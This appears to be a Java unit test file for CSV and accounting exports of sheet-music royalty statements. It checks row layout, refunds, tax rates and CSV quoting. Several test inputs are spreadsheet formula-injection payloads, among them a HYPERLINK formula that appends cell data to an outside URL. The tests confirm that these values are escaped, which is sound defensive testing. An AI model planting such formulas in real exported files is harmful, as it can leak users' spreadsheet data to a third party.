package org.partbook.statement.form;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvFormTest {
  private static final int TITLE = 16;
  private static final int DUE = 31;

  /// Reads what RFC 4180 describes.
  static List<List<String>> rows(String csv) {
    var rows = new ArrayList<List<String>>();
    var row = new ArrayList<String>();
    var cell = new StringBuilder();
    boolean quoted = false;
    for (int at = 0; at < csv.length(); at++) {
      char c = csv.charAt(at);
      if (quoted && c == '"' && csv.startsWith("\"\"", at)) {
        cell.append(c);
        at++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (!quoted && c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (!quoted && csv.startsWith("\r\n", at)) {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(List.copyOf(row));
        row.clear();
        at++;
      } else {
        assertThat(quoted || (c != '\r' && c != '\n'))
            .as("a line break outside of quotes")
            .isTrue();
        cell.append(c);
      }
    }
    assertThat(quoted || !row.isEmpty() || cell.length() > 0).isFalse();
    return rows;
  }

  @Test
  void there_is_a_row_for_each_entry_and_amount() throws Exception {
    var rows = rows(Written.text("csv", SampleStatement.royalties()));

    assertThat(rows).hasSize(1 + 5);
    assertThat(rows).allSatisfy(row -> assertThat(row).hasSameSizeAs(rows.getFirst()));
    assertThat(rows.getFirst())
        .startsWith("statement", "kind", "party")
        .endsWith("due", "currency");
    assertThat(rows.get(2))
        .containsExactly(
            "H-2026-0007",
            "holder",
            "Robert Schumann",
            "2026-10-01",
            "2026-10-31",
            "1201",
            "17001",
            "2026-10-03T10:16:30.123456Z",
            "REGISTERED",
            "",
            "",
            "Corner Music Shop",
            "880001",
            "1",
            rows.get(1).get(14),
            "",
            "Träumerei",
            "0123456789abcdef",
            "GB",
            "2026-10-02T22:30:00Z",
            "7",
            "3",
            "2",
            "4",
            "4.80",
            "EUR",
            "",
            "",
            "arranger",
            "copy",
            "0.15",
            "0.30",
            "EUR");
  }

  @Test
  void what_was_taken_back_is_a_negative_number() throws Exception {
    var rows = rows(Written.text("csv", SampleStatement.usual()));

    assertThat(rows.get(8).get(DUE)).isEqualTo("-4.80");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"https://example.org/?\"&A1)",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝1"
      })
  void no_title_becomes_a_formula(String title) throws Exception {
    var rows = rows(Written.text("csv", SampleStatement.ofVendor().sold(title, 1, "4", "2.40")));

    assertThat(rows.get(1).get(TITLE)).isEqualTo("'" + title);
  }

  @ParameterizedTest
  @ValueSource(strings = {"Op. 1, \"Abegg\"", "two\nlines", "two\r\nlines", " blank ", "荒城の月"})
  void every_title_comes_back(String title) throws Exception {
    var rows = rows(Written.text("csv", SampleStatement.ofVendor().sold(title, 1, "4", "2.40")));

    assertThat(rows.get(1).get(TITLE)).isEqualTo(title);
  }

  @Test
  void an_empty_statement_has_its_head() throws Exception {
    assertThat(rows(Written.text("csv", SampleStatement.ofVendor()))).hasSize(1);
  }

  @Test
  void the_accounting_form_has_a_row_for_each_line_of_the_transaction() throws Exception {
    var rows = rows(Written.text("accounting", SampleStatement.usual()));

    assertThat(rows.stream().map(row -> row.subList(0, 9)))
        .containsExactly(
            List.of(
                "date",
                "statement",
                "account",
                "note",
                "debit",
                "credit",
                "currency",
                "vat_treatment",
                "vat_rate"),
            List.of(
                "2026-10-31",
                "V-2026-0003",
                "assets:receivable:vendors:2",
                "Corner Music Shop",
                "815.34",
                "",
                "EUR",
                "",
                ""),
            row("income:sheet music", "10 copies", "", "770.10"),
            row("income:sheet music:taken back", "3 copies", "8.10", ""),
            row("liabilities:vat", "7 %", "", "53.34"));
  }

  private static List<String> row(String account, String note, String debit, String credit) {
    return List.of(
        "2026-10-31", "V-2026-0003", account, note, debit, credit, "EUR", "excluded", "7");
  }

  @Test
  void each_rate_of_tax_has_rows_of_its_own() throws Exception {
    var rows = rows(Written.text("accounting", SampleStatement.twoTaxes()));

    assertThat(rows.stream().skip(1).map(row -> String.join(" ", row.subList(2, 9))))
        .containsExactly(
            "assets:receivable:vendors:2 Corner Music Shop 21.84  EUR  ",
            "income:sheet music 6 copies  14.40 EUR excluded 7",
            "income:sheet music:taken back 1 copy 2.40  EUR excluded 7",
            "income:sheet music 2 copies  6.00 EUR reverse_charge 0",
            "income:sheet music 1 copy  2.52 EUR included 19",
            "liabilities:vat 7 %  0.84 EUR excluded 7",
            "liabilities:vat 19 %  0.48 EUR included 19");
  }

  @Test
  void more_taken_back_than_sold_turns_the_sides() throws Exception {
    var statement =
        SampleStatement.ofVendor().vat("none", "0").refunded("Träumerei", 1, "4", "2.40");

    assertThat(rows(Written.text("accounting", statement)).stream().map(row -> row.subList(2, 6)))
        .contains(
            List.of("assets:receivable:vendors:2", "Corner Music Shop", "", "2.40"),
            List.of("income:sheet music:taken back", "1 copy", "2.40", ""));
  }

  @Test
  void a_name_in_the_accounting_form_is_no_formula_either() throws Exception {
    var statement = SampleStatement.usual().party("name", "=1+1");

    var row = rows(Written.text("accounting", statement)).get(1);
    assertThat(row.get(3)).isEqualTo("'=1+1");
    assertThat(row.get(10)).isEqualTo("'=1+1");
  }

  @Test
  void shares_of_one_sale_are_of_the_same_copies() throws Exception {
    var sample = SampleStatement.ofHolder();
    sample.entry(
        "REGISTERED",
        "Träumerei",
        3,
        Map.of(),
        sample.share(3, "7.20", "EUR", "composer", "net", "50", "3.60"),
        sample.share(3, "7.20", "EUR", "arranger", "net", "10", "0.72"));

    assertThat(Written.text("accounting", sample))
        .contains("expenses:royalties,3 copies,4.32,,EUR");
  }
}
